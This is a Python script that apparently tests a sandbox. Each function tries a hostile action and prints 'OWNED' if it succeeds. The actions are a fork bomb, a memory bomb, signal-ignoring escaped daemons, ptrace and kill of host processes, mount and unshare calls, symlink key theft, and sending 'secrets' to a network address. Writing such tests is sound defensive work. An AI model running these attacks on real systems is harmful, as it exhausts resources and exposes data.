"""What a hostile program would try: attack.py NAME ARG…

`make demo` runs each of these inside a box, and the harmless ones outside as well, to show that they work there.
Whatever stops an attack is printed as the kernel tells it; an attack that gets through says OWNED.
"""
import ctypes
import os
import signal
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)


def attempt(what, act, *args):
    """Prints what came of it; true if it worked."""
    try:
        got = act(*args)
    except (OSError, MemoryError) as e:
        print(f"{what}: {getattr(e, 'strerror', None) or type(e).__name__}", flush=True)
        return False
    print(f"OWNED: {what}: {got}", flush=True)
    return True


def syscall(name, *args):
    if getattr(libc, name)(*args) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def read(path):
    with open(path) as f:
        return f.read().strip()


def write(path):
    with open(path, "w") as f:
        return f.write("owned\n")


def read_key(key):
    attempt("open the key", read, key)


def write_outside(path, mounted):
    attempt("create a file in the caller's directory", write, path)
    attempt("change a file of a read-only mount", write, mounted)


def send(address):
    with socket.create_connection(address, 1) as s:
        return s.send(b"secrets")


def reach_network(port):
    attempt("connect to the host's 127.0.0.1", send, ("127.0.0.1", int(port)))
    attempt("connect to 192.0.2.1", send, ("192.0.2.1", 80))


def fork_bomb():
    children = 0
    try:
        while True:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            children += 1
    except OSError as e:
        print(f"fork: {e.strerror} after {children} children", flush=True)
    sys.exit(1)


def memory_bomb():
    hoard = []
    try:
        while True:
            hoard.append(b"x" * (8 << 20))
    except MemoryError:
        n = len(hoard)
        del hoard
        print(f"allocate: MemoryError after {n * 8} MiB", flush=True)
        sys.exit(1)


def outlive(marker):
    """A daemon as stubborn as they come: own session, signals ignored, and it holds the output pipe. `marker` is
    what the demo looks for among the host's processes afterwards."""
    for sig in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(sig, signal.SIG_IGN)
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", [marker, "600"])
            os._exit(0)
    print("three daemons started, and here we wait", flush=True)
    time.sleep(600)


def ptrace_host(pid):
    attempt("ptrace a process of the host", syscall, "ptrace", 16, int(pid), None, None)
    attempt("kill it", os.kill, int(pid), signal.SIGKILL)


def mount():
    attempt("mount", syscall, "mount", b"none", b"/tmp", b"tmpfs", 0, None)
    attempt("a user namespace of its own", syscall, "unshare", 0x10000000)


def symlink(directory, key):
    """Through a link in a shared directory, and by the hand of whoever copies the results out."""
    link = os.path.join(directory, "report.txt")
    os.symlink(key, link)
    attempt("read the key through a symbolic link", read, link)


def flood():
    while True:
        os.write(1, b"A" * 65536)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
